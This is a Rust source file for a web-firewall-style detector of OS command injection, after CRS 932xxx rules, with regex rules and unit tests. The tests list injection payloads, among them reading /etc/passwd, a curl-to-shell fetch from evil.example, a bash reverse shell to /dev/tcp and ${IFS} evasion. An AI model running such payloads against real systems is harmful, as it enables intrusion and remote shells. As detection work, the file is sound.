//! OS command injection, after the ideas of CRS 932xxx: a shell separator or substitution
//! (`;`, `|`, `&&`, backticks, `$(`) followed by a Unix or Windows command (932100/932105/932110),
//! and shell evasion tricks (`${IFS}`, 932200). Ambiguous short words (`cat`, `ls`, `id`, `sleep`)
//! need command-like arguments, so prose with a semicolon does not fire.

use regex::RegexSet;
use std::sync::OnceLock;

const RULES: &[(&str, &str)] = &[
    (
        "separator then command",
        r"(?i)(?:[;|`\n&]|\$\()\s*(?:/(?:usr/)?s?bin/)?(?:whoami|uname|ifconfig|ipconfig|wget|curl|bash|zsh|nc|ncat|netcat|telnet|powershell(?:\.exe)?|cmd(?:\.exe)?|nslookup|dig|python[23]?|perl|php|ruby|chmod|chown|/bin/sh|sh\s+-[ci]|busybox|certutil|bitsadmin|systeminfo|tasklist|net\s+(?:user|localgroup))(?:\s|$|[;|&`)'\x22]|\.exe)",
    ),
    (
        "separator then command with arguments",
        r"(?i)(?:[;|`\n&]|\$\()\s*(?:/(?:usr/)?s?bin/)?(?:cat|ls|dir|sleep|ping|echo|rm|type|more|head|tail|find|env|ps|kill|touch|mkdir|cp|mv)\s+(?:-[a-z0-9]|/|\\|\d|\.\.|\$|[a-z]:\\|\x22|')",
    ),
    (
        "bare id or whoami",
        r"(?i)(?:[;|`]|&&|\$\()\s*(?:id|whoami|pwd|hostname)\s*(?:$|[;|&`)#])",
    ),
    ("shell evasion", r"(?i)\$\{ifs\}|\$ifs\$|\{(?:cat|ls|echo),"),
    (
        "backtick or substitution with a command",
        r"(?i)(?:`|\$\()\s*(?:cat|ls|id|whoami|uname|sleep|curl|wget|ping|nslookup)\b[^`)]*(?:`|\))",
    ),
    (
        "shell redirection to a device",
        r"(?i)(?:>|<)\s*/dev/(?:tcp|udp)/",
    ),
];

fn set() -> &'static RegexSet {
    static S: OnceLock<RegexSet> = OnceLock::new();
    S.get_or_init(|| {
        RegexSet::new(RULES.iter().map(|r| r.1)).expect("static command injection rules")
    })
}

pub fn detect(v: &str) -> Option<&'static str> {
    if !v.contains([';', '|', '`', '$', '&', '\n', '>', '<', '{']) {
        return None;
    }
    set().matches(v).iter().next().map(|i| RULES[i].0)
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn payloads_fire() {
        for p in [
            "127.0.0.1; cat /etc/passwd",
            "8.8.8.8 | whoami",
            "x && curl http://evil.example/s.sh | sh",
            "`id`",
            "$(whoami)",
            "a;id",
            "1;sleep 5",
            "test|ls -la",
            "cat${IFS}/etc/passwd",
            "& ping -n 10 127.0.0.1",
            "| net user",
            "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "abc; powershell -enc SQBFAFgA",
        ] {
            assert!(detect(p).is_some(), "{p}");
        }
    }

    #[test]
    fn prose_does_not_fire() {
        for p in [
            "Tom & Jerry; cat videos are great",
            "fish & chips",
            "a | b",
            "price: $5; delivery: free",
            "we need ids; ids are keys",
            "echo chamber",
            "rock && roll",
            "I use curl daily",
            "{\"a\":1}",
            "1 > 0",
        ] {
            assert_eq!(detect(p), None, "{p}");
        }
    }
}
